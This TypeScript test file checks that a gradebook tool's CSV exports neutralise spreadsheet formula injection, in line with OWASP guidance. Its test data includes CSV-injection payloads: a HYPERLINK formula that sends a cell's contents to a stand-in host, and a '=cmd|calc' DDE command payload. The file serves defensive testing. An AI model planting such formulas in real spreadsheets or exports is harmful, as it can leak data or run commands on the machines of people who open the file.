// Spreadsheet-safe CSV: a student (or a training script) may name itself `=1+1`; every CSV we write marks such a
// cell as text, the way OWASP's CSV-injection guidance says, and the name is still there to read and to parse back.
import * as assert from 'node:assert/strict';
import { csv, csvField, parseCsv } from '../../src/core/csv';
import { canvasCsv, gradebookCsv } from '../../src/core/gradebook/exports';
import { GRADEBOOK_FORMAT, type Gradebook, type StudentRecord } from '../../src/core/gradebook/model';
import { RunRegistry } from '../../src/core/runs/registry';
import { runToCsv } from '../../src/core/runs/csv';

/** Names a spreadsheet would evaluate, or would take a leading character of as a mark. */
const HOSTILE = ['=1+1', '+2+3', '-1', '@SUM(1+1)', '\tTAB', '\rCR', '\nLF', "'quoted", '=HYPERLINK("http://x.example/?"&A1,"ok")'];

function student(name: string, points: number): StudentRecord {
  return { student: name, source: 'folder', messages: [], points, maxPoints: 3, key: name, exercises: [{ exercise: 'e1', status: 'graded', points, maxPoints: 3, messages: [], checks: [] }] };
}

function gradebook(names: string[]): Gradebook {
  return {
    format: GRADEBOOK_FORMAT,
    pack: { id: 'p', title: '=Pack title', version: '1.0.0', hash: 'h' },
    settings: { gradcheck: 'auto', limits: {}, grader: 'g' } as Gradebook['settings'], // the exports read none of it
    exercises: [{ id: 'e1', title: 'Exercise one', maxPoints: 3, hints: [], checks: [] }],
    students: names.map((name, i) => student(name, i % 4)),
  };
}

/** A field, quoted or not, that starts with a formula character: what a spreadsheet would evaluate (an empty last field is not one). */
const FORMULA_CELL = /(^|,|\r\n)(?!\r\n)"?[=+\-@\t\r\n]/;

describe('spreadsheet-safe CSV', () => {
  it('quotes a field that starts with = + - @ tab CR LF or a quote, behind a single quote, as OWASP recommends', () => {
    assert.equal(csvField('=1+1'), `"'=1+1"`);
    assert.equal(csvField('+2+3'), `"'+2+3"`);
    assert.equal(csvField('-1'), `"'-1"`);
    assert.equal(csvField('@SUM(1+1)'), `"'@SUM(1+1)"`);
    assert.equal(csvField('\tTAB'), `"'\tTAB"`);
    assert.equal(csvField('\rCR'), `"'\rCR"`);
    assert.equal(csvField("'quoted"), `"''quoted"`);
    // OWASP's own examples: the quote inside is doubled, the separator stays inside the quoted field.
    assert.equal(csvField('=1+2";=1+2'), `"'=1+2"";=1+2"`);
    assert.equal(csvField(`=1+2'" ;,=1+2`), `"'=1+2'"" ;,=1+2"`);
    // Ordinary names and formula characters past the first are left alone.
    assert.equal(csvField('ada'), 'ada');
    assert.equal(csvField('ada-lovelace'), 'ada-lovelace');
    assert.equal(csvField('a=b'), 'a=b');
    assert.equal(csvField(3), '3');
  });

  it('reads back exactly what was written: nothing of a name is lost', () => {
    const rows = [HOSTILE, ['plain', "o'brien", "'", "''", 'x'], ['a', 'b, c', 'say "hi"', 'two\nlines', '  Points Possible', '3']];
    assert.deepEqual(parseCsv(csv(rows)), rows);
    // A leading quote that is not our mark (a Canvas roster's own text) is kept as it is.
    assert.deepEqual(parseCsv("'Alana,'n'\r\n"), [["'Alana", "'n'"]]);
  });

  it('gradebook.csv and canvas.csv mark every hostile student name (and the pack title) as text', () => {
    const book = gradebook(HOSTILE);
    const files = { 'gradebook.csv': gradebookCsv(book), 'canvas.csv': canvasCsv(book).text };
    for (const [name, text] of Object.entries(files)) {
      assert.doesNotMatch(text, FORMULA_CELL, name);
      const names = parseCsv(text).map((row) => row[0]);
      for (const hostile of HOSTILE) assert.ok(names.includes(hostile), `${name} lost ${JSON.stringify(hostile)}`);
    }
    assert.match(files['gradebook.csv'], /\r\n"'=1\+1",0,0,3,\r\n/);
    assert.match(files['canvas.csv'], /^Student,ID,SIS User ID,SIS Login ID,Section,"'=Pack title"\r\n/);
    assert.match(files['canvas.csv'], /\r\n"'@SUM\(1\+1\)",,,,,3\r\n/);
  });

  it("a run's CSV marks a metric named like a formula, and keeps negative numbers numbers", () => {
    const registry = new RunRegistry();
    registry.addRecords(
      [
        { type: 'run-start', v: 1, run: 'a', name: 'a', time: 1_700_000_000, backend: 'numpy', device: 'cpu' },
        { type: 'metric', run: 'a', step: 0, t: 0, metrics: { '=cmd|calc': -0.5, '@loss': 1 } },
      ],
      { kind: 'live' },
    );
    const table = registry.get('a')?.table;
    assert.ok(table);
    assert.equal(runToCsv(table), `step,t,"'=cmd|calc","'@loss"\n0,0,-0.5,1\n`);
  });
});
